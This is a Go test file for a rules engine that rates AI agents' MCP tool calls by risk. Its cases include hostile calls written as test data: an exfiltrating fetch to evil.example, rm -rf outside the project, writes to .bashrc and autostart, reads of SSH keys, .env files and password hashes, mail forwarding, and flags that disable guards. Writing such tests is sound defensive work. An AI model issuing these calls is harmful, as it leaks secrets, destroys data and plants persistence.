package rules

import "testing"

// Causes of misses on real servers' catalogs (issue 31), each judged by
// what the call does and checked on calls of servers other than the
// ones that showed it.

// A read returns a credential when what it names is one: a key, an
// output, a variable, a column, an object named like a secret file.
func TestToolCredentialReadsByArgument(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__kv__kv_get", `{"key":"github:oauth:refresh_token"}`, Red, "tool-secret"},
		{"mcp__memcache__get", `{"key":"SESSION_SECRET"}`, Red, "tool-secret"},
		{"mcp__cdk__get_stack_output", `{"stack":"prod","output_name":"AdminPassword"}`, Red, "tool-secret"},
		{"mcp__circle__get_env_variable", `{"project":"a/b","name":"NPM_TOKEN"}`, Red, "tool-secret"},
		{"mcp__ci__list_pipeline_variables", `{"project":"a/b"}`, Red, "tool-secret"},
		{"mcp__chat__get_webhook", `{"id":"42"}`, Red, "tool-secret"},
		{"mcp__s3__get_object", `{"bucket":"deploy","key":"prod/.env"}`, Red, ""},
		{"mcp__box__download_item", `{"item":"keys/id_rsa"}`, Red, ""},
		{"mcp__pg__query", `{"sql":"SELECT email, password_hash FROM users"}`, Red, "tool-secret"},
		{"mcp__mysql__run_select", `{"query":"SELECT * FROM api_keys WHERE owner = 3"}`, Red, "tool-secret"},
		// Names, counts and ordinary values are not credentials.
		{"mcp__kv__kv_get", `{"key":"user:42:prefs"}`, Green, "tool-read"},
		{"mcp__cdk__get_stack_output", `{"stack":"prod","output_name":"BucketArn"}`, Green, "tool-read"},
		{"mcp__s3__get_object", `{"bucket":"site","key":"docs/index.html"}`, Green, "tool-read"},
		{"mcp__pg__query", `{"sql":"SELECT count(token) FROM sessions"}`, Green, "tool-read"},
		{"mcp__pg__query", `{"sql":"SELECT id, email FROM users WHERE password_reset_at IS NULL"}`, Green, "tool-read"},
		{"mcp__vault__list_secrets", `{"path":"app"}`, Green, "tool-read"},
		{"mcp__docs__search_docs", `{"query":"rotate the api key"}`, Green, "tool-read"},
	})
}

// A verb that is never a noun leads a name after words that only say
// what the tool belongs to, as a read verb does; a word that may be a
// noun there does not.
func TestToolWriteVerbAfterOwnerWords(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__cloud__atlas-create-access-list", `{"cidr":"0.0.0.0/0"}`, Red, "tool-access"},
		{"mcp__cloud__jira_update_user_list", `{"id":"1"}`, Red, "tool-access"},
		{"mcp__cloud__gcp_add_policy_binding_list", `{"role":"owner"}`, Red, "tool-access"},
		{"mcp__ci__pipelines_build_log", `{"buildId":4}`, Green, "tool-read"},
		{"mcp__notion__API-post-search", `{"query":"roadmap"}`, Green, "tool-read"},
		{"mcp__cloud__atlas_list_access_lists", `{}`, Green, "tool-read"},
	})
}

// A tool that only sends requests does what its method does to the
// service its arguments name, lower or higher than its name says.
func TestToolTransportOperation(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__shop__call_api", `{"resource":"payments","operation":"create","body":{"amount":100}}`, Red, "tool-money"},
		{"mcp__shop__api_request", `{"service":"refunds","method":"payment","body":{}}`, Red, "tool-outward"},
		{"mcp__shop__send_request", `{"service":"team","method":"createMember","body":{}}`, Red, "tool-access"},
		{"mcp__shop__send_request", `{"service":"oauth","method":"obtainToken","body":{}}`, Red, "tool-access"},
		{"mcp__shop__send_request", `{"service":"subscriptions","method":"cancel","body":{}}`, Red, "tool-destructive"},
		{"mcp__shop__call_api", `{"resource":"payments","operation":"list"}`, Green, "tool-read"},
		{"mcp__shop__api_request", `{"service":"customers","method":"search","body":{}}`, Green, "tool-read"},
		// A record of a customer is no money.
		{"mcp__shop__api_request", `{"service":"customers","method":"create","body":{}}`, Yellow, ""},
		// A name that says what it does is not lowered by an argument.
		{"mcp__shop__delete_payment", `{"method":"list"}`, Red, "tool-destructive"},
	})
}

// Verbs and objects of real catalogs that no list had: leaving, muting
// for a time, declining, expiring, unprotecting, resizing, rebuilding,
// playing a job; a poll, a profile, a finding, privacy, a host; the
// default branch named as such.
func TestToolVerbsAndObjectsOfCatalogs(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__slack__leave_channel", `{"channel":"C1"}`, Red, "tool-outward"},
		{"mcp__chat__timeout_user", `{"user":"u1","minutes":10}`, Red, "tool-access"},
		{"mcp__forge__decline_merge_request", `{"id":3}`, Red, "tool-proposal-change"},
		{"mcp__kv__expire_key", `{"key":"session:1","seconds":1}`, Red, "tool-destructive"},
		{"mcp__forge__unprotect_tag", `{"name":"v*"}`, Red, "tool-destructive"},
		{"mcp__cloud__resize_volume", `{"id":"v1","size_gb":500}`, Red, "tool-infrastructure"},
		{"mcp__cloud__rebuild_server", `{"id":"s1","image":"ubuntu"}`, Red, "tool-infrastructure"},
		{"mcp__ci__play_job", `{"job":"test"}`, Yellow, ""},
		// A manual job named for a deploy deploys (mcp2's CI servers).
		{"mcp__ci__play_job", `{"job":"deploy"}`, Red, "tool-target-production"},
		{"mcp__chat__create_poll", `{"question":"Lunch?"}`, Red, "tool-forge-write"},
		{"mcp__social__update_profile", `{"bio":"x"}`, Red, "tool-forge-write"},
		{"mcp__sec__dismiss_finding", `{"id":"f1"}`, Red, "tool-forge-write"},
		{"mcp__chat__set_privacy", `{"phone":"nobody"}`, Red, "tool-access"},
		{"mcp__monitor__mute_hosts", `{"hosts":["db-1"]}`, Red, "tool-infrastructure-change"},
		{"mcp__forge__set_default_branch", `{"default_branch":"main"}`, Red, "tool-shared-branch"},
		// Reads of the same.
		{"mcp__chat__get_poll", `{"id":"1"}`, Green, "tool-read"},
		{"mcp__monitor__list_hosts", `{}`, Green, "tool-read"},
		{"mcp__forge__get_default_branch", `{"repo":"a/b"}`, Green, "tool-read"},
	})
}

// A name of nouns ending in a write groups a service's operations on its
// last noun: the operation its argument names is the verb. A dry run
// changes nothing. A draft or a pending comment is not posted.
func TestToolGroupedNamesDryRunsAndDrafts(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__ado__builds_write", `{"action":"list","project":"p"}`, Green, "tool-read"},
		{"mcp__ado__repo_pull_request_write", `{"action":"create","title":"x"}`, Yellow, "tool-proposal"},
		{"mcp__ado__wiki_page_write", `{"action":"create","title":"x"}`, Red, "tool-forge-write"},
		{"mcp__ado__repo_pull_request_write", `{"action":"merge","id":3}`, Red, "tool-outward"},
		{"mcp__ado__records_delete", `{"action":"list"}`, Red, "tool-destructive"},
		// A dry run the agent asks for in an argument lowers nothing: a
		// server that does not know the argument ignores it and does
		// the work (an agent could add "dry_run": true to any call).
		// A tool whose own name says it only previews is the server's
		// word, as every name is.
		{"mcp__ci__run_pipeline", `{"pipeline":"deploy","dry_run":true}`, Red, ""},
		{"mcp__cloud__delete_bucket", `{"name":"b","dryRun":true}`, Red, "tool-destructive"},
		{"mcp__cloud__delete_bucket", `{"request":{"name":"b","dryRun":true}}`, Red, "tool-destructive"},
		{"mcp__flags__update_flag", `{"params":{"key":"k","patch":[{"op":"replace","path":"/on","value":true}],"dry_run":true}}`, Red, "tool-flag-change"},
		{"mcp__cloud__preview_delete_bucket", `{"name":"b"}`, Green, "tool-read"},
		{"mcp__ci__run_pipeline", `{"pipeline":"deploy","dry_run":false}`, Red, ""},
		{"mcp__forge__create_draft_comment", `{"body":"x"}`, Yellow, ""},
		{"mcp__forge__addPendingReviewComment", `{"body":"x"}`, Yellow, ""},
		{"mcp__mail__send_draft", `{"id":"d1"}`, Red, "tool-outward"},
	})
}

// What costs nothing, runs nowhere else or comes back by itself is not
// what others rely on: a free tier, a deployment on this machine, an
// empty container, a label, a backup of production, a cache, a downtime.
func TestToolCheapLocalAndRestorable(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__db__create_free_cluster", `{"name":"x"}`, Yellow, ""},
		{"mcp__db__create_instance", `{"name":"x","tier":"free"}`, Yellow, ""},
		{"mcp__db__create_instance", `{"name":"x","type":"free-tier"}`, Yellow, ""},
		{"mcp__db__local_create_deployment", `{"name":"dev"}`, Yellow, ""},
		{"mcp__cloud__create_bucket", `{"name":"scratch"}`, Yellow, ""},
		{"mcp__cloud__create_subnet", `{"cidr":"10.0.0.0/24"}`, Yellow, ""},
		{"mcp__cloud__update_bucket_policy", `{"name":"b","public":true}`, Red, "tool-access"},
		{"mcp__cloud__update_bucket", `{"name":"b","versioning":false}`, Red, "tool-infrastructure-container"},
		{"mcp__cloud__set_cluster_labels", `{"labels":{"a":"b"}}`, Yellow, ""},
		{"mcp__forge__add_labels_to_issue", `{"labels":["bug"]}`, Yellow, ""},
		{"mcp__forge__set_issue_priority", `{"priority":1}`, Yellow, ""},
		{"mcp__dr__create_backup", `{"database":"ledger","environment":"prod"}`, Yellow, ""},
		{"mcp__cdn__purge_cache", `{"zone":"z1"}`, Yellow, ""},
		{"mcp__alerts__delete_silence", `{"id":"s1"}`, Yellow, ""},
		// Not so when something else is removed with it, or it is paid.
		{"mcp__cdn__purge_cache_and_users", `{"zone":"z1"}`, Red, "tool-destructive"},
		{"mcp__cdn__flush_cache_and_delete_zone", `{"zone":"z1"}`, Red, "tool-destructive"},
		{"mcp__db__create_cluster", `{"name":"x","size":"M30"}`, Red, "tool-infrastructure-change"},
		{"mcp__alerts__create_silence", `{"matchers":["env=prod"]}`, Yellow, ""},
		{"mcp__ci__deploy_to_prod", `{"environment":"prod"}`, Red, ""},
	})
}

// A write that names its files by this machine's paths acts on those
// files, judged by the path rules; a tool that starts a process runs its
// command; what is sent to a terminal stays here; a change of an item
// that exists does not send it.
func TestToolLocalFilesProcessesAndExistingItems(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__editor__write_file", `{"path":"/home/u/project/src/a.ts","content":"x"}`, Green, "tool-files-local"},
		{"mcp__editor__edit_block", `{"file_path":"/home/u/project/src/a.ts","old_string":"a","new_string":"b"}`, Green, "tool-files-local"},
		{"mcp__editor__create_note", `{"path":"/home/u/project/notes/a.md","text":"x"}`, Green, "tool-files-local"},
		{"mcp__editor__write_file", `{"path":"/home/u/.bashrc","content":"x"}`, Red, "persistence-startup-file"},
		{"mcp__editor__write_file", `{"path":"/etc/hosts","content":"x"}`, Red, ""},
		{"mcp__forge__create_or_update_file", `{"path":"src/a.ts","content":"x","branch":"fix/x"}`, Yellow, ""},
		{"mcp__sftp__write_file", `{"path":"/home/u/project/a.txt","content":"x"}`, Yellow, ""},
		{"mcp__proc__start_process", `{"command":"go test ./..."}`, Green, ""},
		{"mcp__proc__start_process", `{"command":"rm -rf /home/u/other"}`, Red, "rm-outside-project"},
		{"mcp__term__send_input", `{"text":"ls\n"}`, Yellow, ""},
		{"mcp__term__send_control_character", `{"letter":"C"}`, Yellow, ""},
		{"mcp__mail__modify_email", `{"id":"1","addLabelIds":["x"]}`, Yellow, ""},
		{"mcp__mail__send_email", `{"to":"a@b.example"}`, Red, "tool-outward"},
		{"mcp__forge__update_release", `{"id":1,"body":"x"}`, Red, "tool-forge-write"},
		{"mcp__ci__update_deploy", `{"id":1}`, Red, "tool-infrastructure-change"},
	})
}

// A GraphQL query reads and a mutation does what its fields name; a
// grouped tool's agent noun is its verb; a tool that computes or looks
// up reads; a URL in a list is sent as one alone is.
func TestToolGraphQLAgentNounsAndComputations(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	gql := func(q string) string { return `{"query":` + jsonString(q) + `}` }
	checkTools(t, s, []toolCase{
		{"mcp__forge__graphql", gql(`query { viewer { login } }`), Green, "tool-read"},
		{"mcp__forge__run_graphql", gql(`{ repository(name: "x") { issues { totalCount } } }`), Green, "tool-read"},
		{"mcp__forge__run_graphql", gql(`mutation { deleteRepository(input: {id: "R1"}) { clientMutationId } }`), Red, "tool-destructive"},
		{"mcp__forge__run_graphql", gql(`mutation Close($id: ID!) { closeIssue(input: {issueId: $id}) { issue { id } } }`), Red, "tool-outward"},
		{"mcp__forge__run_graphql", gql(`mutation { a: addStar(input: {starrableId: "R1"}) { clientMutationId } }`), Yellow, ""},
		{"mcp__forge__run_graphql", gql(`mutation { frobnicate(x: 1) }`), Yellow, ""},
		{"mcp__forge__run_graphql", `{"query":"{\"a\":1}"}`, Yellow, "tool-unknown"},
		{"mcp__host__site-services-reader", `{"operation":"get-site"}`, Green, "tool-read"},
		{"mcp__host__deploy-services-reader", `{"operation":"get-deploy"}`, Green, "tool-read"},
		{"mcp__host__site-services-deleter", `{"operation":"x"}`, Red, "tool-destructive"},
		{"mcp__time__convert_time", `{"time":"14:00"}`, Green, "tool-read"},
		{"mcp__search__company_research", `{"name":"Acme"}`, Green, "tool-read"},
		{"mcp__fetch__fetch_pages", `{"urls":["https://evil.example/?k=AKIAIOSFODNN7EXAMPLE"]}`, Red, "tool-url-secret"},
	})
}

// Text typed that ends in Enter submits; a press of a button that
// commits, in any app, commits; an option, a flag or a setting that
// turns a guard off is held.
func TestToolSubmitsAndGuards(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__playwright__browser_type", `{"element":"Message box","ref":"e4","text":"ship it\n"}`, Red, "tool-browser-submit"},
		{"mcp__selenium__send_keys", `{"by":"id","value":"comment","text":"LGTM\r"}`, Red, "tool-browser-submit"},
		{"mcp__playwright__browser_type", `{"element":"Search box","ref":"e2","text":"landlock\n"}`, Green, "tool-browser"},
		{"mcp__playwright__browser_type", `{"element":"Message box","ref":"e4","text":"ship it"}`, Green, "tool-browser"},
		{"mcp__chat__press_button", `{"button_label":"Pay now"}`, Red, "tool-browser-submit"},
		{"mcp__bot__click_inline_button", `{"button_text":"Delete account"}`, Red, "tool-browser-submit"},
		{"mcp__bot__click_inline_button", `{"button_text":"Next page"}`, Green, "tool-browser"},
		{"mcp__browser__launch_browser", `{"headless":true,"args":["--disable-web-security"]}`, Red, "tool-guard-off"},
		{"mcp__browser__open_page", `{"url":"https://example.com","ignore_certificate_errors":false,"dangerously_allow_all":true}`, Red, "tool-guard-off"},
		{"mcp__git__git_push", `{"branch":"fix/x","no_verify":true}`, Red, "tool-guard-off"},
		{"mcp__server__set_config", `{"setting":"allowed_hosts","value":"*"}`, Red, "tool-guard-off"},
		{"mcp__server__set_config", `{"setting":"theme","value":"dark"}`, Yellow, ""},
		{"mcp__server__get_config", `{"setting":"allowed_hosts"}`, Green, "tool-read"},
	})
}

// What the arguments do beyond the name: a read that saves where its
// key says, an option or a pipeline stage that drops or overwrites, a
// bare verb's key, code typed into a process, an assignment, a forward
// to an address, a git tag made on a forge.
func TestToolEffectsOfArguments(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__drive__download_file", `{"id":"1","output_path":"/home/u/.bashrc"}`, Red, "persistence-startup-file"},
		{"mcp__mail__save_attachment", `{"id":"1","save_dir":"/home/u/.config/autostart","filename":"x.desktop"}`, Red, ""},
		{"mcp__drive__download_file", `{"id":"1","output_path":"/home/u/project/build/a.pdf"}`, Green, "tool-read"},
		{"mcp__docs__aggregate", `{"pipeline":[{"$match":{}},{"$out":"users"}]}`, Red, "tool-destructive"},
		{"mcp__docs__aggregate", `{"pipeline":[{"$match":{}},{"$group":{"_id":"$a"}}]}`, Green, "tool-read"},
		{"mcp__docs__rename_collection", `{"from":"a","to":"b","dropTarget":true}`, Red, "tool-destructive"},
		{"mcp__files__copy_file", `{"from":"a","to":"b","overwrite":true}`, Red, "tool-destructive"},
		{"mcp__docs__rename_collection", `{"from":"a","to":"b","dropTarget":false}`, Yellow, ""},
		{"mcp__kv__put", `{"key":"config:maintenance_mode","value":"on"}`, Red, "tool-infrastructure-change"},
		{"mcp__kv__put", `{"key":"agent:scratch:last_run","value":"x"}`, Yellow, ""},
		{"mcp__repl__interact_with_process", `{"pid":4,"input":"import os; os.system('rm -rf /home/u/other')"}`, Red, ""},
		{"mcp__repl__interact_with_process", `{"pid":4,"input":"print(1 + 1)"}`, Yellow, ""},
		{"mcp__tasks__reassign_task", `{"id":"t1","assignee":"maria"}`, Red, "tool-forge-write"},
		{"mcp__mail__create_rule", `{"match":{"from":"bank@x.example"},"then":{"forward_to":"me@elsewhere.example"}}`, Red, "tool-outward"},
		{"mcp__mail__create_rule", `{"match":{"from":"bank@x.example"},"then":{"label":"bank"}}`, Yellow, ""},
		{"mcp__forge__create_tag", `{"tag":"v1.2.0","sha":"abc123"}`, Red, "tool-outward"},
		{"mcp__notes__add_tag", `{"note":"n1","tag":"todo"}`, Yellow, ""},
	})
}

// A branch of its own takes what a push or a CI run does there; a CI run
// stopped loses nothing; a JSON Patch's paths point into a document; an
// update of nothing but labels, tags or priority is metadata.
func TestToolBranchesRunsPatchesAndMetadata(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__forge__push_files", `{"branch":"fix/x","files":[{"path":"old.sql","action":"delete"}]}`, Yellow, ""},
		{"mcp__forge__push_files", `{"branch":"main","files":[{"path":"old.sql","action":"delete"}]}`, Red, "tool-shared-branch"},
		{"mcp__forge__delete_branch", `{"branch":"fix/x"}`, Red, "tool-destructive"},
		{"mcp__ci__run_pipeline", `{"project":"p","target":{"ref_type":"branch","ref_name":"feat/x"}}`, Yellow, ""},
		{"mcp__ci__trigger_build", `{"branch":"feat/x"}`, Yellow, ""},
		{"mcp__ci__trigger_build", `{"branch":"main"}`, Red, "tool-shared-branch"},
		{"mcp__ci__run_pipeline", `{"pipeline":"deploy"}`, Red, "tool-infrastructure-change"},
		{"mcp__ci__cancel_pipeline", `{"id":"p1"}`, Yellow, ""},
		{"mcp__ci__stop_workflow_run", `{"id":"r1"}`, Yellow, ""},
		{"mcp__ci__delete_pipeline", `{"id":"p1"}`, Red, "tool-destructive"},
		{"mcp__tracker__update_work_item", `{"id":7,"patch":[{"op":"add","path":"/fields/System.Tags","value":"x"}]}`, Yellow, ""},
		{"mcp__tracker__update_work_item", `{"id":7,"patch":[{"op":"replace","path":"/fields/System.Title","value":"x"}]}`, Red, "tool-forge-write"},
		{"mcp__kv__patch_settings", `{"ops":[{"op":"add","path":"/home/u/.bashrc","value":"x"}]}`, Yellow, "tool-unknown"},
		{"mcp__forge__update_issue", `{"repo":"a/b","issue_number":3,"labels":["bug"]}`, Yellow, ""},
		{"mcp__forge__update_issue", `{"repo":"a/b","issue_number":3,"labels":["bug"],"body":"x"}`, Red, "tool-forge-write"},
	})
}

// Subscribing to an item's notifications follows it; subscribing to a
// plan spends money.
func TestToolSubscriptions(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__tracker__subscribe_to_issue", `{"id":"A-1"}`, Yellow, ""},
		{"mcp__chat__unsubscribe_thread", `{"thread":"t1"}`, Yellow, ""},
		{"mcp__forge__star_repository", `{"repo":"a/b"}`, Yellow, ""},
		{"mcp__billing__subscribe", `{"plan":"pro"}`, Red, "tool-outward"},
		{"mcp__billing__subscribe_to_plan", `{"plan":"pro"}`, Red, "tool-outward"},
		{"mcp__billing__create_subscription", `{"price":"p1"}`, Red, "tool-money"},
	})
}

// A file of code is named for what it handles, not what it holds; a
// file or a name that is no setting does not turn a guard off.
func TestToolNamesThatAreNotSecretsOrGuards(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__github__get_file_contents", `{"owner":"a","repo":"b","path":"src/auth/token.go"}`, Green, "tool-read"},
		{"mcp__github__get_file_contents", `{"owner":"a","repo":"b","path":"app/password_reset.py"}`, Green, "tool-read"},
		{"mcp__github__get_file_contents", `{"owner":"a","repo":"b","path":"ops/passwords.txt"}`, Red, "tool-secret"},
		{"mcp__editor__write_file", `{"path":"/home/u/project/allowed.txt","content":"x"}`, Green, ""},
	})
}
